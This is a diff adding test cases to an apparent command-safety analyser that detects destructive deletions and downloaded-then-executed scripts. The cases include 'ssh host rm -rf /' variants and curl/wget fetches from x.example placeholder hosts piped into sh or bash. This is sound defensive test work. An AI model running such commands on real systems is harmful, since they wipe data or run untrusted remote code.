@@ -344,6 +344,7 @@ def test_xargs_input_read_as_xargs_reads_it(command: str, path: str):
         ("parallel rm -rf :::: list.txt", "rm", "$(cat list.txt)"),
         ("ssh host 'rm -rf /'", "rm", "/"),
         ("ssh -p 2222 -i key user@host rm -rf /", "rm", "/"),
+        ("ssh -oStrictHostKeyChecking=No host rm -rf /", "rm", "/"),  # an N in a value
         ("ssh host <<'X'\nrm -rf /\nX", "rm", "/"),
         ("env -S 'PATH=/usr/bin' rm -rf /", "rm", "/"),
         ("env -P /usr/bin rm -rf /", "rm", "/"),
@@ -1465,6 +1466,8 @@ def test_a_recursive_call_is_read_with_its_own_arguments():
         ("wget https://x.example/setup.py && python3 setup.py install", "python3", "wget"),
         ("cd /tmp && wget -O b http://x.example/b && ./b", "b", "wget"),
         ("curl --output=s.sh https://x.example/s && source s.sh", "source", "curl"),
+        ("curl -fsSLH 'X-A: b' -o i.sh https://x.example/i && sh i.sh", "sh", "curl"),
+        ("wget -qo log.txt -O r.sh https://x.example/r && bash r.sh", "bash", "wget"),
     ],
 )
 def test_a_file_downloaded_then_run_on_the_line_is_fetched_code(
@@ -1479,6 +1482,10 @@ def test_a_file_downloaded_then_run_on_the_line_is_fetched_code(
         ("curl -o data.json https://x.example/d && python3 load.py data.json", "python3"),
         ("curl -fsSLo install.sh https://get.example.sh && less install.sh", "less"),
         ("wget -O - https://x.example/s | tee s.sh && cat s.sh", "cat"),
+        # -Hfoo and -XPOST carry values: no "o" or "O" in them names an output file
+        ("curl -Hfoo https://x.example/api/o && sh o", "sh"),
+        ("curl -XPOST https://x.example/api/run.sh && sh run.sh", "sh"),
+        ("wget -o run.sh https://x.example/r && cat run.sh", "cat"),  # -o is wget's log
     ],
 )
 def test_a_downloaded_file_that_is_only_read_is_not_run(command: str, program: str):
